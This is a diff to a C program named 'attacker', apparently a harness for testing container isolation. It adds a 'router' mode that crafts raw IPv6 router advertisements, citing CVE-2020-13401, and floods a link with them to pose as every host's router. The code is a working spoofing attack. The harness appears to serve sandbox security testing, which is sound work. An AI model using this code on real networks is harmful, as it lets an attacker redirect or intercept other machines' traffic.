@@ -5,17 +5,23 @@
  *     attacker peek DEV INO   looks into each new process while it still is the program of that inode
  *     attacker fds            lists its own descriptors
  *     attacker calls          makes system calls that no container should be allowed, and prints their errors
+ *     attacker router LINK    announces itself on the link as everybody's router for IPv6
  *
  * The first two end when /tmp/stop is there. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -169,6 +175,42 @@ static int calls(void) {
   return 0;
 }
 
+static unsigned sum(const unsigned char *bytes, int length, unsigned before) {
+  for (int i = 0; i < length; i += 2) before += bytes[i] << 8 | bytes[i + 1];
+  return before;
+}
+
+/* CVE-2020-13401: a router advertisement (RFC 4861 section 4.2) with a prefix, by hand: the link need not have IPv6. */
+static int router(const char *name) {
+  unsigned char frame[14 + 40 + 16 + 32] = {0x33, 0x33, 0, 0, 0, 1};
+  unsigned char *ip = frame + 14, *message = ip + 40, *prefix = message + 16;
+  struct ifreq request = {0};
+  struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_halen = 6};
+  int link = socket(AF_PACKET, SOCK_RAW, htons(ETHERTYPE_IPV6));
+  int sent = 0;
+  unsigned check;
+  strncpy(request.ifr_name, name, IFNAMSIZ - 1);
+  if (link < 0 || ioctl(link, SIOCGIFINDEX, &request) < 0) return perror(name), 1;
+  where.sll_ifindex = request.ifr_ifindex;
+  if (ioctl(link, SIOCGIFHWADDR, &request) < 0) return perror(name), 1;
+  memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
+  memcpy(where.sll_addr, frame, 6);
+  frame[12] = 0x86, frame[13] = 0xdd;
+  ip[0] = 0x60, ip[5] = 48, ip[6] = 58, ip[7] = 255;
+  memcpy(ip + 8, (unsigned char[16]){0xfe, 0x80, [15] = 0xbd}, 16);
+  memcpy(ip + 24, (unsigned char[16]){0xff, 0x02, [15] = 1}, 16);
+  message[0] = 134, message[4] = 64, message[6] = 0x07, message[7] = 0x08;
+  prefix[0] = 3, prefix[1] = 4, prefix[2] = 64, prefix[3] = 0xc0, prefix[6] = 0xff, prefix[10] = 0xff;
+  memcpy(prefix + 16, (unsigned char[16]){0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad}, 16);
+  check = sum(message, 48, sum(ip + 8, 32, 48 + 58));
+  while (check >> 16) check = (check & 0xffff) + (check >> 16);
+  message[2] = ~check >> 8, message[3] = ~check;
+  for (int i = 0; i < 20; i++, usleep(50000))
+    sent += sendto(link, frame, sizeof frame, 0, (struct sockaddr *)&where, sizeof where) == sizeof frame;
+  printf("sent %d\n", sent);
+  return 0;
+}
+
 int main(int count, char **arguments) {
   const char *mode = count > 1 ? arguments[1] : "";
   if (!strcmp(mode, "exe")) return exe();
@@ -176,6 +218,7 @@ int main(int count, char **arguments) {
     return peek(strtoull(arguments[2], 0, 10), strtoull(arguments[3], 0, 10));
   if (!strcmp(mode, "fds")) return list("/proc/self/fd"), 0;
   if (!strcmp(mode, "calls")) return calls();
-  fputs("usage: attacker exe | peek DEV INO | fds | calls\n", stderr);
+  if (!strcmp(mode, "router") && count == 3) return router(arguments[2]);
+  fputs("usage: attacker exe | peek DEV INO | fds | calls | router LINK\n", stderr);
   return 2;
 }
